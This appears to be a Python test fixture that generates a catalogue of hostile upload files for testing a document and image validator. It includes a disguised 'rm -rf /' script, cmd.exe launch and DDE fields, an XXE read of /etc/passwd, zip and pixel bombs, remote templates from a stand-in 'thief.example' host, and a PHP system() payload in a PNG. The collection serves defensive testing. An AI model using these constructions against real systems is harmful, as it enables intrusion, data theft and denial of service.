"""Files that somebody could send to do harm, each named, with the rule that it breaks.

All are made here: nothing of the kind is kept in the repository.
"""

import struct
import zlib
from collections.abc import Mapping
from dataclasses import dataclass
from io import BytesIO
from typing import Final
from zipfile import ZIP_DEFLATED, ZipFile, ZipInfo

from PIL import Image
from tests.support.good_files import (
    DOCX,
    JPEG,
    ODT,
    PDF,
    PNG,
    content_types,
    docx,
    docx_parts,
    jpeg,
    odt,
    odt_content,
    odt_parts,
    pdf,
    pdf_of,
    png,
    png_chunk,
    relationship,
    relationships,
    word_document,
    zipped,
)

_CATALOG: Final = b"/Type /Catalog /Pages 2 0 R"
_PAGES: Final = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
_PAGE: Final = b"/Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]"
_PROGRAM: Final = b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode."
_ELF: Final = b"\x7fELF\x02\x01\x01" + b"\x00" * 57
_HTML: Final = b"<!DOCTYPE html><script>alert(1)</script>"
_SVG: Final = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
_PNG_BEGIN: Final = b"\x89PNG\r\n\x1a\n"


@dataclass(frozen=True, slots=True)
class Hostile:
    """A hostile file: what it says it is, its bytes, and the rule that it breaks."""

    media_type: str
    content: bytes
    rule: str


def _pdf(catalog: bytes = b"", page: bytes = b"", *more: bytes, trailer: bytes = b"") -> bytes:
    first = b"<< %s %s >>" % (_CATALOG, catalog)
    return pdf_of(first, _PAGES, b"<< %s %s >>" % (_PAGE, page), *more, trailer=trailer)


def _packed_script() -> bytes:
    packed = zlib.compress(b"9 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>")
    head = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>" % len(packed)
    return _pdf(b"", b"", b"%s\nstream\n%s\nendstream" % (head, packed))


def _part(name: str, content: str | bytes) -> bytes:
    return docx({name: content})


def _related(kind: str, target: str, *, external: bool = False) -> bytes:
    found = relationships(relationship(kind, target, external=external))
    return docx({"word/_rels/document.xml.rels": found})


def _field(instruction: str) -> bytes:
    field = f'<w:p><w:fldSimple w:instr="{instruction}"/></w:p>'
    return docx({"word/document.xml": word_document(field)})


def _field_in_pieces() -> bytes:
    pieces = "".join(
        f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in (" D", "DEAU", "TO c:\\x")
    )
    return docx({"word/document.xml": word_document(f"<w:p>{pieces}</w:p>")})


def _odf(inside: str) -> bytes:
    return odt({"content.xml": odt_content(inside)})


def _with_entry(change: Mapping[str, int]) -> bytes:
    """A Word document one of whose entries is described differently."""
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as archive:
        for name, content in docx_parts().items():
            entry = ZipInfo(name)
            if name == "word/media/image1.png":
                for member, value in change.items():
                    setattr(entry, member, value)
            archive.writestr(entry, content)
    return out.getvalue()


def _encrypted_entry() -> bytes:
    document = bytearray(docx())
    for signature, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        document[document.index(signature) + place] |= 1
    return bytes(document)


def _twice() -> bytes:
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as archive:
        for name, content in docx_parts().items():
            archive.writestr(ZipInfo(name), content)
        archive.writestr(ZipInfo("Word/Document.xml"), word_document())
    return out.getvalue()


def _lying_bomb() -> bytes:
    """Says of itself that it unpacks to 1,000 bytes, and unpacks to ten million."""
    zeros = b"\x00" * 10_000_000
    document = docx({"word/media/image2.bmp": zeros})
    return document.replace(struct.pack("<L", len(zeros)), struct.pack("<L", 1000))


def _between() -> bytes:
    """A Word document with something in a gap before its directory."""
    document, hidden = docx(), _PROGRAM
    ends = len(document) - 22
    begins = struct.unpack_from("<L", document, ends + 16)[0]
    end = bytearray(document[ends:])
    struct.pack_into("<L", end, 16, begins + len(hidden))
    return document[:begins] + hidden + document[begins:ends] + bytes(end)


def _picture_of_many_pixels() -> bytes:
    header = png_chunk(b"IHDR", struct.pack(">LLBBBBB", 60_000, 60_000, 1, 0, 0, 0, 0))
    rows = zlib.compress(b"\x00" * 1000)
    return _PNG_BEGIN + header + png_chunk(b"IDAT", rows) + png_chunk(b"IEND", b"")


def _after_header(chunk: bytes) -> bytes:
    picture, ends = png(), len(_PNG_BEGIN) + 25
    return picture[:ends] + chunk + picture[ends:]


def _in_jpeg(marker: int, segment: bytes) -> bytes:
    described = struct.pack(">BBH", 0xFF, marker, len(segment) + 2) + segment
    picture = jpeg()
    return picture[:2] + described + picture[2:]


def _jpeg_that_says(width: int, height: int) -> bytes:
    picture = bytearray(jpeg())
    at = picture.index(b"\xff\xc0")
    struct.pack_into(">HH", picture, at + 5, height, width)
    return bytes(picture)


def _gif() -> bytes:
    out = BytesIO()
    Image.linear_gradient("L").save(out, "GIF")
    return out.getvalue()


def _deep_xml() -> bytes:
    return _part("word/footnotes.xml", "<a>" * 5000 + "</a>" * 5000)


def _entities() -> bytes:
    laughs = '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>'
    return _part("word/footnotes.xml", laughs)


def _foreign_entity() -> bytes:
    thief = '<!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">]><l>&a;</l>'
    return _part("word/footnotes.xml", thief)


_SCRIPT: Final = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
_MACRO_MAIN: Final = "application/vnd.ms-word.document.macroEnabled.main+xml"

HOSTILE: Final[Mapping[str, Hostile]] = {
    # something else altogether
    "nothing-at-all": Hostile(PDF, b"", "empty"),
    "program-named-pdf": Hostile(PDF, _PROGRAM, "wrong-type"),
    "elf-named-docx": Hostile(DOCX, _ELF, "wrong-type"),
    "html-named-pdf": Hostile(PDF, _HTML, "wrong-type"),
    "svg-named-png": Hostile(PNG, _SVG, "wrong-type"),
    "shell-script-named-jpeg": Hostile(JPEG, b"#!/bin/sh\nrm -rf /\n", "wrong-type"),
    "gif-named-png": Hostile(PNG, _gif(), "wrong-type"),
    "jpeg-named-png": Hostile(PNG, jpeg(), "wrong-type"),
    "old-word-document-named-docx": Hostile(
        DOCX, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "wrong-type"
    ),
    "odt-named-docx": Hostile(DOCX, odt(), "wrong-type"),
    "docx-named-odt": Hostile(ODT, docx(), "wrong-type"),
    "archive-named-docx": Hostile(DOCX, zipped({"a.xml": "<a/>"}), "wrong-type"),
    "junk-before-the-pdf": Hostile(PDF, b"junk\n" + pdf(), "wrong-type"),
    # PDF
    "pdf-cut-short": Hostile(PDF, pdf()[:-200], "damaged"),
    "pdf-of-no-objects": Hostile(PDF, b"%PDF-1.7\nxref\nstartxref\n9\n%%EOF\n", "damaged"),
    "pdf-with-an-archive-behind": Hostile(PDF, pdf() + docx(), "hidden-data"),
    "pdf-with-a-program-behind": Hostile(PDF, pdf() + _PROGRAM, "hidden-data"),
    "two-pdfs-in-one": Hostile(PDF, pdf() + pdf(), "hidden-data"),
    "pdf-that-is-a-web-page": Hostile(
        PDF, pdf().replace(b"\n", b"\n%" + _HTML + b"\n", 1), "executable"
    ),
    "pdf-with-a-script": Hostile(PDF, _pdf(b"/OpenAction 4 0 R", b"", _SCRIPT), "active-content"),
    "pdf-with-a-disguised-script": Hostile(
        PDF,
        _pdf(b"/OpenAction 4 0 R", b"", b"<< /S /J#61vaScr#69pt /J#53 (app.alert\\(1\\)) >>"),
        "active-content",
    ),
    "pdf-with-a-script-named-elsewhere": Hostile(
        PDF,
        _pdf(b"/OpenAction 4 0 R", b"", b"<< /S 5 0 R >>", b"/Hide"),
        "active-content",
    ),
    "pdf-with-a-script-in-a-packed-object": Hostile(PDF, _packed_script(), "active-content"),
    "pdf-with-actions-of-a-page": Hostile(
        PDF, _pdf(b"", b"/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>"), "active-content"
    ),
    "pdf-that-starts-a-program": Hostile(
        PDF,
        _pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
        "active-content",
    ),
    "pdf-that-sends-a-form": Hostile(
        PDF,
        _pdf(b"", b"/Annots [<< /A << /S /SubmitForm /F (http://x.example) >> >>]"),
        "active-content",
    ),
    "pdf-with-an-xfa-form": Hostile(
        PDF, _pdf(b"/AcroForm << /XFA [(a) 4 0 R] >>", b"", b"()"), "active-content"
    ),
    "pdf-that-opens-another-file": Hostile(
        PDF, _pdf(b"/OpenAction << /S /GoToR /F (\\\\\\\\thief\\\\share) >>"), "active-content"
    ),
    "pdf-with-a-link-to-a-file": Hostile(
        PDF,
        _pdf(b"", b"/Annots [<< /A << /S /URI /URI (file:///etc/passwd) >> >>]"),
        "external-content",
    ),
    "pdf-with-a-file-inside": Hostile(
        PDF,
        _pdf(b"/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>", b"", b"<< /F (a.exe) >>"),
        "embedded-files",
    ),
    "pdf-with-rich-media": Hostile(
        PDF, _pdf(b"", b"/Annots [<< /Subtype /RichMedia >>]"), "embedded-files"
    ),
    "pdf-with-a-sound": Hostile(
        PDF, _pdf(b"", b"/Annots [<< /Subtype /Sound >>]"), "embedded-files"
    ),
    "encrypted-pdf": Hostile(
        PDF,
        _pdf(b"", b"", b"<< /Filter /Standard /V 1 /R 2 >>", trailer=b"/Encrypt 4 0 R"),
        "encrypted",
    ),
    # Word documents
    "docx-with-a-macro-project": Hostile(DOCX, _part("word/vbaProject.bin", b"x"), "macros"),
    "docm-named-docx": Hostile(
        DOCX, docx({"[Content_Types].xml": content_types(_MACRO_MAIN)}), "macros"
    ),
    "docx-with-activex": Hostile(DOCX, _part("word/activeX/activeX1.xml", "<a/>"), "macros"),
    "docx-with-an-ole-object": Hostile(
        DOCX, _part("word/embeddings/oleObject1.bin", b"x"), "embedded-files"
    ),
    "docx-with-a-workbook": Hostile(
        DOCX, _part("word/embeddings/book.xlsx", zipped({"a.xml": "<a/>"})), "embedded-files"
    ),
    "docx-with-a-remote-template": Hostile(
        DOCX,
        _related("attachedTemplate", "http://thief.example/t.dotm", external=True),
        "external-content",
    ),
    "docx-with-a-remote-picture": Hostile(
        DOCX, _related("image", "http://thief.example/p.png", external=True), "external-content"
    ),
    "docx-with-a-link-to-a-script": Hostile(
        DOCX, _related("hyperlink", "javascript:alert(1)", external=True), "external-content"
    ),
    "docx-with-foreign-html": Hostile(DOCX, _related("aFChunk", "chunk.xml"), "embedded-files"),
    "docx-that-runs-dde": Hostile(DOCX, _field("DDEAUTO c:\\\\cmd.exe"), "external-content"),
    "docx-that-runs-dde-in-pieces": Hostile(DOCX, _field_in_pieces(), "external-content"),
    "docx-with-a-program-inside": Hostile(DOCX, _part("word/media/a.exe", b"x"), "executable"),
    "docx-with-a-program-named-picture": Hostile(
        DOCX, _part("word/media/image2.png", _PROGRAM), "executable"
    ),
    "docx-with-an-archive-named-picture": Hostile(
        DOCX, _part("word/media/image2.png", zipped({"a.xml": "<a/>"})), "nested-archive"
    ),
    "docx-that-climbs-out": Hostile(DOCX, _part("word/../../evil.xml", "<a/>"), "unsafe-names"),
    "docx-with-an-absolute-name": Hostile(DOCX, _part("/etc/evil.xml", "<a/>"), "unsafe-names"),
    "docx-with-a-symbolic-link": Hostile(
        DOCX, _with_entry({"external_attr": 0o120777 << 16, "create_system": 3}), "unsafe-names"
    ),
    "docx-with-one-name-twice": Hostile(DOCX, _twice(), "duplicate-names"),
    "docx-with-an-encrypted-part": Hostile(DOCX, _encrypted_entry(), "encrypted"),
    "docx-bomb": Hostile(DOCX, _part("word/media/a.bmp", b"\x00" * 30_000_000), "inflates"),
    "docx-bomb-that-lies": Hostile(DOCX, _lying_bomb(), "inflates"),
    "docx-of-thousands-of-parts": Hostile(
        DOCX, docx({f"word/p{each}.xml": "<a/>" for each in range(2001)}), "too-many-parts"
    ),
    "docx-with-entities": Hostile(DOCX, _entities(), "document-type"),
    "docx-with-a-foreign-entity": Hostile(DOCX, _foreign_entity(), "document-type"),
    "docx-nested-beyond-reason": Hostile(DOCX, _deep_xml(), "too-complex"),
    "docx-with-a-program-behind": Hostile(DOCX, docx() + _PROGRAM, "hidden-data"),
    "docx-with-a-program-in-a-gap": Hostile(DOCX, _between(), "hidden-data"),
    "docx-cut-short": Hostile(DOCX, docx()[:-300], "damaged"),
    # OpenDocument texts
    "odt-with-a-macro": Hostile(ODT, odt({"Basic/Standard/Module1.xml": "<a/>"}), "macros"),
    "odt-with-an-event-that-runs": Hostile(
        ODT, _odf('<script:event-listener script:language="ooo:script"/>'), "macros"
    ),
    "odt-with-a-remote-picture": Hostile(
        ODT, _odf('<draw:image xlink:href="http://thief.example/p.png"/>'), "external-content"
    ),
    "odt-with-an-ole-object": Hostile(ODT, _odf("<draw:object-ole/>"), "embedded-files"),
    "odt-that-fetches-dde": Hostile(ODT, _odf("<office:dde-source/>"), "external-content"),
    "odt-whose-type-comes-last": Hostile(
        ODT, zipped(dict(reversed(odt_parts().items()))), "wrong-type"
    ),
    # pictures
    "jpeg-with-an-archive-behind": Hostile(JPEG, jpeg() + docx(), "hidden-data"),
    "jpeg-with-a-script-in-its-comment": Hostile(
        JPEG, _in_jpeg(0xFE, b"<script>alert(1)</script>"), "executable"
    ),
    "jpeg-that-is-javascript": Hostile(JPEG, _in_jpeg(0xE0, b"/*" + b"x" * 30), "hidden-data"),
    "jpeg-cut-short": Hostile(JPEG, jpeg()[:-400], "damaged"),
    "jpeg-of-too-many-pixels": Hostile(JPEG, _jpeg_that_says(60_000, 60_000), "too-many-pixels"),
    "png-bomb": Hostile(PNG, _picture_of_many_pixels(), "too-many-pixels"),
    "png-with-a-program-behind": Hostile(PNG, png() + _PROGRAM, "hidden-data"),
    "png-with-php-inside": Hostile(
        PNG, _after_header(png_chunk(b"tEXt", b"a\x00<?php system('id');")), "executable"
    ),
    "png-with-a-chunk-of-its-own": Hostile(
        PNG, _after_header(png_chunk(b"EVIL", b"payload")), "hidden-data"
    ),
    "png-with-a-wrong-checksum": Hostile(PNG, png().replace(b"IDAT", b"IDAt"), "damaged"),
}
"""Each by its name."""
